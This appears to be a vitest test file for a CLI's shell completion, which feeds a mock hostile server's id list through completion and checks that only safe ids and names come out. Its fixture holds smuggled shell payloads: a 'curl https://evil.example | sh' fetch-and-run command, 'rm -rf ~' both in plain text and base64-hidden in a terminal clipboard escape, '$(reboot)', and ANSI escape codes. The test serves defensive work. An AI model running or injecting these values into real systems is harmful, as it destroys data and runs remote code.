// Completion asks the installation for ids, and the shell puts a candidate into the command line
// as it is: what a hostile installation sends as an id is left out unless it looks like one.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type HostileServer, sendJson, startHostileServer } from "../../../packages/sdk/test/hostile-server.ts";
import { runInProcess, tempConfigDir } from "./harness.ts";

describe("completing ids from a hostile installation", () => {
  let server: HostileServer;
  const config = tempConfigDir();
  beforeAll(async () => {
    server = await startHostileServer((_req, res) =>
      sendJson(res, 200, {
        items: [
          { id: "sbx_good1" },
          { id: "sbx_x; curl -s https://evil.example | sh" },
          { id: "sbx_\u001b]52;c;cm0gLXJmIH4=\u0007" },
          { id: "sbx_two\nlines" },
          { id: "$(reboot)" },
          { id: "sbx_good2", name: "nice-name" },
          { id: "sbx_good3", name: "prj_looks_like_an_id" },
          { id: "sbx_good4", name: "x; rm -rf ~" },
          { id: "sbx_good5", name: "\u001b[31mred" },
        ],
      }),
    );
  });
  afterAll(async () => {
    await server.close();
    config.remove();
  });

  it("offers only ids and names safe to type, never a name shaped like an id", async () => {
    const env = {
      AGENTPLANE_CONFIG_DIR: config.dir,
      AGENTPLANE_URL: server.url,
      AGENTPLANE_TOKEN: "apl_test_secret",
      AGENTPLANE_PROJECT: "prj_1",
    };
    const ran = await runInProcess(["__complete", "sandboxes", "get", ""], env);
    expect(ran.code).toBe(0);
    expect(ran.stdout).toBe(
      ["nice-name", "sbx_good1", "sbx_good2", "sbx_good3", "sbx_good4", "sbx_good5", ""].join("\n"),
    );
  });
});
